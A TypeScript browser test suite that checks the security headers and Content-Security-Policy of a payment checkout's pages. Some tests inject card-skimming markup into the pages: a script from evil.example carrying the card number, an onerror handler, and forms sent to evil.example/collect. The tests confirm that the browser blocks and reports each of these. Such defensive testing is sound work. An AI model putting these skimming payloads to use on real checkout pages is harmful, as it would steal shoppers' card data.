import assert from 'node:assert/strict'
import { createServer as createPlainServer } from 'node:http'
import { createServer } from 'node:https'
import type { AddressInfo, Server } from 'node:net'
import { after, before, describe, it } from 'node:test'
import { type Browser, chromium, type Page, type Response } from 'playwright-core'
import { TEST_CERTIFICATE, TEST_KEY } from '../../src/gateway/http-peers.test-data.ts'
import { scriptPath } from '../../src/server/assets.ts'
import { FakeCounterfoil, SECRET, type Stage } from '../../src/server/fake-counterfoil.test.ts'
import { http, type HttpServer } from '../../src/server/http.ts'
import { type ScriptName, scripts } from '../../src/server/scripts/all.ts'
import { chromiumPath, empty } from './browser.ts'
import {
  card,
  type CheckoutPage,
  checkoutPages,
  formUrl,
  openStage,
  orderUrl,
  typeCard,
} from './checkout-pages.ts'
import { eventually, PAGE_WITHIN_MS } from './limits.ts'

const EVIL = 'https://evil.example'
const PSP = 'https://psp.example'

/**
 * A page's policy in words: what it may do beyond showing text, and who may have it in a frame. Addresses of ours begin
 * with OURS, a stylesheet is STYLE, and a script has its name.
 */
const policy = (...powers: readonly string[]): string => inFramesOf("'none'", powers)

function inFramesOf(ancestors: string, powers: readonly string[]): string {
  const first = ["default-src 'none'", 'style-src OURS/STYLE']
  const last = [`frame-ancestors ${ancestors}`, "base-uri 'none'", 'report-uri OURS/csp-reports']
  return [...first, ...powers, ...last].join('; ')
}
const noForm = "form-action 'none'"
const toUs = "form-action 'self'"
const stream = 'connect-src OURS/payments/'

const text = policy(noForm)
const choice = policy(toUs)
const waits = policy('script-src OURS/watch-payment', stream, noForm)
const form = policy('script-src OURS/card-number', toUs)
const unpaid = policy('script-src OURS/watch-payment OURS/local-times', stream, toUs)

/** What each page is allowed, word for word: whoever changes a header changes it here too, and says why. */
const policies: Readonly<Record<string, string>> = {
  order: choice,
  'order-one-way': text,
  'order-many-lines': text,
  'order-held': policy('script-src OURS/local-times OURS/look-again', toUs),
  'order-held-by-another': policy('script-src OURS/look-again', noForm),
  'order-paid': text,
  'order-closed': text,
  'card-form': form,
  'card-form-errors': form,
  'card-form-with-device-check': policy(
    'script-src OURS/card-number OURS/device-data',
    `frame-src ${PSP}`,
    `form-action 'self' ${PSP}`,
  ),
  'please-wait': waits,
  'still-checking': waits,
  'to-provider': policy('script-src OURS/send-form', `form-action ${PSP}`),
  'to-provider-by-link': text,
  challenge: policy(
    'script-src OURS/watch-payment OURS/send-form',
    stream,
    'frame-src https://bank.example https: OURS/payments/',
    'form-action https://bank.example',
  ),
  'out-of-the-frame': inFramesOf("'self'", ['script-src OURS/break-out', noForm]),
  success: text,
  refunded: text,
  'not-needed': text,
  failure: text,
  checking: unpaid,
  'unpaid-yet': unpaid,
  'bank-waits': unpaid,
  'held-until': policy('script-src OURS/local-times', noForm),
  'form-expired': text,
  'order-closed-meanwhile': text,
  'too-many-tries': text,
  'service-away': text,
  'our-fault': text,
  'under-way': text,
  'payment-away': policy('script-src OURS/look-again', noForm),
  'not-found': text,
}

/** The other headers of every page; what depends on the page is in the test. */
const always: Readonly<Record<string, string>> = {
  'cache-control': 'no-store',
  'content-type': 'text/html; charset=utf-8',
  'cross-origin-opener-policy': 'same-origin',
  'cross-origin-resource-policy': 'same-origin',
  'permissions-policy':
    'accelerometer=(), camera=(), display-capture=(), geolocation=(), gyroscope=(), hid=(), magnetometer=(), microphone=(), midi=(), payment=(), screen-wake-lock=(), serial=(), usb=(), xr-spatial-tracking=()',
  'x-content-type-options': 'nosniff',
  'x-robots-tag': 'noindex, nofollow',
}
/** Of HTTP itself, of cookies, or told by another test. */
const OTHERS = /^(connection|content-length|content-language|date|keep-alive|retry-after|set-cookie|vary)$/

const more: readonly CheckoutPage[] = [
  {
    name: 'card-form-with-device-check',
    open: async (page, at) => {
      const url = `${PSP}/device`
      const names = { cardPrefixField: 'Bin', messageOrigin: PSP, sessionMember: 'SessionId' }
      at.cf.device = { ...names, url, fields: {} }
      await page.goto(formUrl(at))
    },
  },
  {
    name: 'to-provider-by-link',
    options: { modules: ['hosted', 'card'] },
    open: async (page, at) => {
      at.cf.onPay = (id) => at.cf.sendTo(id, { method: 'GET', url: `${PSP}/pay`, fields: {}, framed: false })
      await page.route(`${PSP}/**`, (route) => route.abort())
      await page.goto(orderUrl(at))
      const left = page.waitForRequest(`${PSP}/pay`)
      await page.locator('form .choice').click({ noWaitAfter: true })
      await left
    },
  },
  {
    name: 'out-of-the-frame',
    open: async (page, at) => {
      const back = (): string => `${at.cf.payments.get('pay-1')?.statusUrl}/return/challenge/t`
      await using bank = await siteOf(
        () => `<form method="post" action="${back()}"><button>Done</button></form>`,
      )
      at.cf.onPay = (id) =>
        at.cf.sendTo(id, { method: 'POST', url: `${bank.url}/`, fields: {}, framed: true })
      await pay(page, at)
      const returned = page.waitForResponse(/\/return\/challenge\//)
      await page.frameLocator('iframe[name=challenge]').locator('button').click({ noWaitAfter: true })
      await returned
    },
  },
]

async function pay(page: Page, at: Stage): Promise<void> {
  await page.goto(formUrl(at))
  await typeCard(page, card)
  await page.locator('form[data-card] button').click()
  await page.waitForURL((url) => url.href !== formUrl(at))
}

/** Another site, on this machine: browsers let no page from elsewhere get here. */
async function siteOf(main: () => string): Promise<AsyncDisposable & { readonly url: string }> {
  const site = createPlainServer((_request, response) =>
    response.setHeader('content-type', 'text/html').end(`<!doctype html><title>Elsewhere</title>${main()}`),
  )
  const port = await listening(site)
  return {
    url: `http://localhost:${port}`,
    [Symbol.asyncDispose]: async () => {
      site.closeAllConnections()
      await new Promise((resolve) => site.close(resolve))
    },
  }
}

async function listening(server: Server): Promise<number> {
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return (server.address() as AddressInfo).port
}

/** Which page is meant where the browser has another one in its window by then. */
const meant: Readonly<Record<string, (url: string) => boolean>> = {
  'to-provider-by-link': (url) => url.endsWith('/go'),
  'out-of-the-frame': (url) => url.includes('/return/challenge/'),
}

/** The names of scripts instead of their digests. */
function readable(text: string, at: { readonly url: string }): string {
  const ours = text.replaceAll(at.url, 'OURS').replaceAll(/\/assets\/\w+\.css/g, '/STYLE')
  const names = Object.keys(scripts) as ScriptName[]
  return names.reduce((known, name) => known.replaceAll(scriptPath(name), `/${name}`), ours)
}

let browser: Browser
before(async () => {
  const args = ['--no-sandbox', '--headless', '--disable-gpu', '--ignore-certificate-errors']
  browser = await chromium.launch({ executablePath: chromiumPath(), args, timeout: PAGE_WITHIN_MS })
})
after(() => browser?.close())

/** One that a test has given back. */
let emptied: Page | undefined

async function emptyPage(): Promise<Page> {
  const page = emptied
  emptied = undefined
  if (page !== undefined) return page
  const context = await browser.newContext({ ignoreHTTPSErrors: true })
  context.setDefaultTimeout(PAGE_WITHIN_MS)
  return context.newPage()
}

/** Gives the page to the next test, which a new one would cost a second. */
async function giveBack(page: Page): Promise<void> {
  page.removeAllListeners('response')
  await empty(page)
  emptied = page
}

describe('the headers of every page', () => {
  for (const shown of [...checkoutPages, ...more]) {
    it(`are as they should be: ${shown.name}`, async () => {
      await using at = await openStage(shown)
      const page = await emptyPage()
      const documents: Response[] = []
      page.on('response', (response) => {
        const isPage = response.headers()['content-type']?.startsWith('text/html') === true
        if (isPage && response.url().startsWith(at.url)) documents.push(response)
      })
      await shown.open(page, at)
      // One that was left on the way may be told late.
      const isMeant = meant[shown.name] ?? ((url: string) => url === page.url())
      const last = documents.findLast((response) => isMeant(response.url()))
      assert.ok(last !== undefined, 'a page of ours was opened')
      const { 'content-security-policy': found = '', ...headers } = await last.allHeaders()
      assert.equal(readable(found, at), policies[shown.name])
      const sendsForms = found.includes("form-action 'self'")
      const isFramed = shown.name === 'out-of-the-frame'
      const expected = {
        ...always,
        'referrer-policy': sendsForms ? 'same-origin' : 'no-referrer',
        'x-frame-options': isFramed ? 'SAMEORIGIN' : 'DENY',
      }
      const others = Object.entries(headers).filter(([name]) => !OTHERS.test(name))
      assert.deepEqual(Object.fromEntries(others), expected)
      await giveBack(page)
    })
  }
})

/** A page as an attacker has changed it on its way out of the server: its headers are the server's. */
async function inject(page: Page, url: string, markup: string): Promise<void> {
  await page.route(url, async (route) => {
    const response = await route.fetch()
    await route.fulfill({ response, body: (await response.text()).replace('</body>', `${markup}</body>`) })
  })
}

const taken = (page: Page): Promise<unknown> =>
  page.evaluate('document.documentElement.dataset.taken ?? "not"')
const TAKE = "document.documentElement.dataset.taken = 'over'"

/** What was logged about the page, without what all of it begins with. */
const told = ({ logged }: Pick<Stage, 'logged'>): readonly string[] =>
  logged.map(({ message }) => message.replace('a page was kept to its policy: ', ''))

describe('a page that was tampered with', () => {
  it('runs no script that stands in it or comes from elsewhere, and each is reported and logged without any token', async () => {
    await using at = await openStage({})
    const page = await emptyPage()
    await page.route(`${EVIL}/**`, (route) => route.fulfill({ contentType: 'text/javascript', body: TAKE }))
    const markup = `<script>${TAKE}</script><script src="${EVIL}/skimmer.js?n=${card.number}"></script>
<img src="${EVIL}/pixel" onerror="${TAKE}"><base href="${EVIL}/"><style>body { display: none }</style>`
    await inject(page, formUrl(at), markup)
    await page.goto(formUrl(at))
    const expected = [
      'base-uri stopped https://evil.example on /orders/*/pay/*',
      'img-src stopped https://evil.example on /orders/*/pay/*',
      'script-src-attr stopped inline on /orders/*/pay/*',
      'script-src-elem stopped https://evil.example on /orders/*/pay/*',
      'script-src-elem stopped inline on /orders/*/pay/*',
      'style-src-elem stopped inline on /orders/*/pay/*',
    ]
    await eventually('all reports', PAGE_WITHIN_MS, () =>
      told(at).length >= expected.length ? true : undefined,
    )
    assert.deepEqual(told(at).toSorted(), expected)
    assert.equal(await taken(page), 'not')
    const token = new URL(orderUrl(at)).pathname.split('.').at(-1) ?? ''
    const { url } = at
    assert.ok(!JSON.stringify(at.logged).includes(token) && token.length > 20, `${url} keeps its tokens`)
    await giveBack(page)
  })

  for (const [what, submit] of [
    [
      'a form that was put in',
      async (page: Page) => page.locator('#evil button').click({ noWaitAfter: true }),
    ],
    [
      'its own form, turned elsewhere',
      async (page: Page) => {
        await typeCard(page)
        await page.evaluate(`document.querySelector('form[data-card]').action = '${EVIL}/collect'`)
        await page.locator('form[data-card] button').click({ noWaitAfter: true })
      },
    ],
  ] as const) {
    it(`sends nothing to another site: ${what}`, async () => {
      await using at = await openStage({})
      const page = await emptyPage()
      const sent: string[] = []
      await page.route(`${EVIL}/**`, (route) => {
        sent.push(route.request().url())
        return route.fulfill({ body: 'thanks' })
      })
      const evil = `<form method="post" action="${EVIL}/collect" id="evil"><button>Win</button></form>`
      await inject(page, formUrl(at), evil)
      await page.goto(formUrl(at))
      await submit(page)
      await eventually('a report', PAGE_WITHIN_MS, () => (told(at).length > 0 ? true : undefined))
      assert.deepEqual(told(at), ['form-action stopped https://evil.example on /orders/*/pay/*'])
      assert.deepEqual([sent, page.url()], [[], formUrl(at)])
      await giveBack(page)
    })
  }

  it('is shown in no frame of another site', async () => {
    await using at = await openStage({})
    await using other = await siteOf(() => `<iframe src="${formUrl(at)}"></iframe>`)
    const page = await emptyPage()
    const refused = page.waitForEvent('console', (message) =>
      /frame-ancestors|X-Frame-Options/i.test(message.text()),
    )
    await page.goto(other.url)
    await refused
    const frames = page.frames().filter((frame) => frame.parentFrame() !== null)
    assert.equal(frames.length, 1)
    assert.equal(await frames[0]?.locator('form').count(), 0)
    await giveBack(page)
  })
})

describe('over TLS', () => {
  it('reports go the newer way, and the browser is told to stay with TLS', async () => {
    let server: HttpServer | undefined
    const host = createServer({ key: TEST_KEY, cert: TEST_CERTIFICATE }, (request, response) =>
      server?.node(request, response),
    )
    const url = `https://localhost:${await listening(host)}/pay`
    const logged: Stage['logged'] = []
    const made = http(new FakeCounterfoil(url), { secret: SECRET, log: (line) => logged.push(line) })
    server = made
    await using closing = new AsyncDisposableStack()
    closing.defer(async () => {
      host.closeAllConnections()
      await made.close()
      await new Promise((resolve) => host.close(resolve))
    })
    const page = await emptyPage()
    await inject(page, made.checkoutUrl('A-1'), `<script>${TAKE}</script>`)
    const answer = await page.goto(made.checkoutUrl('A-1'))
    const headers = answer?.headers() ?? {}
    assert.equal(headers['strict-transport-security'], 'max-age=31536000')
    assert.equal(headers['reporting-endpoints'], `counterfoil="${url}/csp-reports"`)
    const found = readable(headers['content-security-policy'] ?? '', { url })
    assert.equal(found, `${text}; report-to counterfoil`)
    // Such reports wait for others for up to a minute, or until the page is left.
    await page.goto('about:blank')
    await eventually('the report', PAGE_WITHIN_MS, () => (logged.length > 0 ? true : undefined))
    assert.deepEqual(told({ logged }), ['script-src-elem stopped inline on /orders/*'])
    await giveBack(page)
  })
})
